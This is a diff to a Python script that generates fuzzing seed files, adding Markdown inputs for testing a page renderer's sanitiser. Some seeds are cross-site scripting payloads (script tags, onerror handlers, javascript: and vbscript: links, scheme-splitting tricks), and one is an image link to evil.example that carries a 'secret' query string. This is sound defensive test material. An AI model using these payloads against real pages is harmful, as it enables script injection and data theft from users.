@@ -1,7 +1,7 @@
 #!/usr/bin/env python3
 """Writes the seed corpora in fuzz/corpus/<target>/: small realistic inputs in the wire formats
-(Ollama NDJSON lines, OpenAI server-sent events, the two request bodies), Swedish prompts and
-personnummer forms. Run it from anywhere; it rewrites only the seed_* files."""
+(Ollama NDJSON lines, OpenAI server-sent events, the two request bodies), Swedish prompts,
+personnummer forms, and Markdown answers with the attacks the page's renderer must stop. Run it from anywhere; it rewrites only the seed_* files."""
 import json, os, struct
 
 HERE = os.path.dirname(os.path.abspath(__file__))
@@ -123,3 +123,18 @@ prompts = [
 ]
 for i, text in enumerate(prompts):
     write("normalise", f"{i}", text)
+
+markdown = [
+    "# Svar\n\nStockholm är **Sveriges** huvudstad. Se [Wikipedia](https://sv.wikipedia.org/wiki/Stockholm).",
+    "```rust\nfn main() { if a < b { println!(\"<hej>\"); } }\n```\n\nOch `inline<code>`.",
+    "| Stad | Invånare |\n|:--|--:|\n| Umeå | 130 000 |\n| Malmö | 360 000 |",
+    "1. ett\n   - a\n     - [x] klart\n     - [ ] kvar\n2. två\n\n> citat med ~~struken~~ text",
+    "<script>alert(1)</script><img src=x onerror=alert(1)><a href=\"JaVaScRiPt:alert(1)\">x</a>",
+    "[x](javascript:alert(1)) [y](java\tscript:alert(1)) [z](data:text/html;base64,PHNjcmlwdD4=) [v](vbscript:x)",
+    "![](https://evil.example/?q=hemligt) ![katt](data:image/png;base64,iVBORw0KGgo=) <https://example.se> <anna@example.se>",
+    "[a](https://example.se \"<script>\") [ref]\n\n[ref]: javascript:alert(1) \"t onclick=x\"",
+    "<div onclick=\"x\">\n<style>p{}</style>\n</div>\n\n<!-- kommentar --> <iframe src=https://example.se>",
+    "```\"><script>alert(1)</script>\nkod\n```\n\n    indraget\n\n***\n\nrad  \nbryt",
+]
+for i, text in enumerate(markdown):
+    write("markdown", f"{i}", text)
